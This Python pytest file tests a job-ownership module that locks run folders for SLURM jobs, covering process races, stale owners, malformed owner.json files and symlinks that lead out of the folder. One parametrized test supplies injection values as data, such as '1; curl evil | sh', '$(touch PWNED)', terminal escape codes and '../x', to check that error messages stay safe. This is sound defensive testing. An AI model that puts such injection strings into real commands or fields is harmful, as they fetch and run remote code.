from __future__ import annotations

import json
import os
import shutil
import socket
import subprocess
import sys
from pathlib import Path

import pytest

from tests.support.others import locked_by_nobody, needs_root, shared_folder
from vssl_dist.errors import ConfigError
from vssl_dist.jobs import owner

CLAIM = """
import sys, time
from pathlib import Path
from tests.support.others import locked_by_nobody, needs_root, shared_folder
from vssl_dist.errors import ConfigError
from vssl_dist.jobs import owner
try:
    owner.claim(Path(sys.argv[1]), lambda job: True)
except ConfigError as error:
    print(error)
    sys.exit(2)
print("mine", flush=True)
time.sleep(60)
"""


def dead(job: str) -> bool:
    return False


def alive(job: str) -> bool:
    return True


def test_of_two_processes_that_start_at_once_one_gets_the_run_and_the_other_its_name(
    tmp_path: Path,
) -> None:
    both = [
        subprocess.Popen(
            [sys.executable, "-c", CLAIM, str(tmp_path / "run")], stdout=subprocess.PIPE, text=True
        )
        for _ in range(2)
    ]
    try:
        said = []
        for process in both:
            assert process.stdout is not None
            said.append(process.stdout.readline())
        assert sorted(line == "mine\n" for line in said) == [False, True]
        winner = both[said.index("mine\n")]
        refusal = next(line for line in said if line != "mine\n")
        assert f"process {winner.pid} on {socket.gethostname()}" in refusal
        with pytest.raises(ConfigError):
            owner.claim(tmp_path / "run", dead)
    finally:
        for process in both:
            process.kill()
            process.wait()
    owner.claim(tmp_path / "run", dead)  # the winner is dead: its run can be taken over


def test_a_job_keeps_its_run_while_slurm_has_it(tmp_path: Path) -> None:
    owner.claim(tmp_path, dead)
    owner.transfer_to_job(tmp_path, "4711")
    owner.release(tmp_path)  # no longer ours to give up
    with pytest.raises(ConfigError, match=r"SLURM job 4711.*scancel 4711"):
        owner.check_free(tmp_path, alive)
    owner.check_free(tmp_path, dead)


def test_a_process_of_another_host_counts_as_alive(tmp_path: Path) -> None:
    text = {"job": None, "host": "elsewhere", "pid": 1, "started": 0.0}
    (tmp_path / "owner.json").write_text(json.dumps(text))
    with pytest.raises(ConfigError, match=r"process 1 on elsewhere.*remove"):
        owner.claim(tmp_path, dead)


def test_a_process_id_that_was_given_to_somebody_else_is_not_the_owner(tmp_path: Path) -> None:
    text = {"job": None, "host": socket.gethostname(), "pid": os.getppid(), "started": 0.0}
    (tmp_path / "owner.json").write_text(json.dumps(text))
    owner.check_free(tmp_path, alive)


def test_what_was_released_is_free(tmp_path: Path) -> None:
    owner.claim(tmp_path, dead)
    owner.release(tmp_path)
    assert not (tmp_path / "owner.json").exists()


def test_a_copy_of_a_run_that_is_being_written_is_free_and_the_original_is_not(
    tmp_path: Path,
) -> None:
    run = tmp_path / "a"
    owner.claim(run, dead)
    owner.transfer_to_job(run, "4711")
    branch = tmp_path / "b"
    shutil.copytree(run, branch)
    before = sorted(path.name for path in branch.iterdir())
    owner.check_free(branch, alive)
    assert sorted(path.name for path in branch.iterdir()) == before
    owner.claim(branch, alive)
    owner.transfer_to_job(branch, "4712")
    moved = run.rename(tmp_path / "c")
    for folder, job in ((moved, "4711"), (branch, "4712")):
        with pytest.raises(ConfigError, match=f"SLURM job {job}"):
            owner.check_free(folder, alive)


@pytest.mark.parametrize(
    "changes",
    [
        {"job": "1; curl evil | sh"},
        {"job": "$(touch PWNED)"},
        {"job": "\x1b[2J"},
        {"job": "--all"},
        {"job": 7},
        {"pid": "x"},
        {"pid": -1},
        {"pid": 10**30},
        {"pid": True},
        {"host": "a\nremove everything"},
        {"host": "\x1b]0;x\x07"},
        {"host": None},
        {"started": "now"},
        {"run": "../x"},
        {"more": "\x1b[2J"},
    ],
    ids=str,
)
def test_an_owner_that_is_none_is_one_line_and_no_command_to_copy(
    tmp_path: Path, changes: dict[str, object]
) -> None:
    text = {"job": None, "host": "here", "pid": 1, "started": 0.0, "run": ""} | changes
    (tmp_path / "owner.json").write_text(json.dumps(text))
    with pytest.raises(ConfigError, match=r"owner.json cannot be read \(.*\): remove it$") as told:
        owner.claim(tmp_path, alive)
    assert str(told.value).isprintable()
    assert "evil" not in str(told.value)


@pytest.mark.parametrize("text", ["[" * 20_000, '{"job":' * 20_000, "[]", "", "7", " " * 10**6])
def test_an_owner_of_any_depth_and_size_is_one_line(tmp_path: Path, text: str) -> None:
    (tmp_path / "owner.json").write_text(text)
    with pytest.raises(ConfigError, match=r"cannot be read \(.*\): remove it$"):
        owner.check_free(tmp_path, alive)


def test_a_pipe_for_an_owner_is_not_waited_for(tmp_path: Path) -> None:
    os.mkfifo(tmp_path / "owner.json")
    with pytest.raises(ConfigError, match="not a regular file"):
        owner.check_free(tmp_path, alive)


@pytest.mark.parametrize("job", ["4711", "123_4", "123+0"])
def test_every_way_in_which_slurm_names_jobs_is_an_owner(tmp_path: Path, job: str) -> None:
    text = {"job": job, "host": "a-b.c_d", "pid": 1, "started": 0}  # of before there was `run`
    (tmp_path / "owner.json").write_text(json.dumps(text))
    with pytest.raises(ConfigError, match=r"scancel " + job.replace("+", r"\+")):
        owner.check_free(tmp_path, alive)


@needs_root
def test_a_claim_that_another_user_s_lock_delays_ends_and_names_him(
    monkeypatch: pytest.MonkeyPatch,
) -> None:
    monkeypatch.setattr(owner, "_CLAIM_TIMEOUT_S", 0.2)
    with shared_folder() as run:
        (run / ".owner.lock").touch(mode=0o644)
        with (
            locked_by_nobody(run / ".owner.lock") as pid,
            pytest.raises(ConfigError, match=f"claimed by process {pid} of nobody"),
        ):
            owner.claim(run, dead)
        owner.claim(run, dead)
        with pytest.raises(AssertionError), locked_by_nobody(run / ".owner.lock"):
            pass  # it is closed to him from now on


@pytest.mark.parametrize("name", ["spool/train.jsonl", "logs/evaluations.log", "trace.rank1.jsonl"])
def test_a_link_out_of_the_run_where_ranks_will_write_is_refused_before_any_starts(
    tmp_path: Path, name: str
) -> None:
    """Whoever unpacks an archive owns its links."""
    run, mine = tmp_path / "run", tmp_path / ".bashrc"
    mine.write_text("mine")
    (run / name).parent.mkdir(parents=True)
    (run / name).symlink_to(mine)
    with pytest.raises(OSError, match=f"leads out of its folder: remove it: '{run / name}'"):
        owner.claim(run, dead)
    assert not (run / "owner.json").exists()
    (run / name).unlink()
    owner.claim(run, dead)


def test_folders_of_a_run_that_are_the_users_own_links_are_claimed(tmp_path: Path) -> None:
    for name in ("spool", "logs"):
        (tmp_path / name).mkdir()
        (tmp_path / name / "file").touch()
        (tmp_path / "run").mkdir(exist_ok=True)
        (tmp_path / "run" / name).symlink_to(tmp_path / name)
    owner.claim(tmp_path / "run", dead)
    assert (tmp_path / "run" / "owner.json").exists()
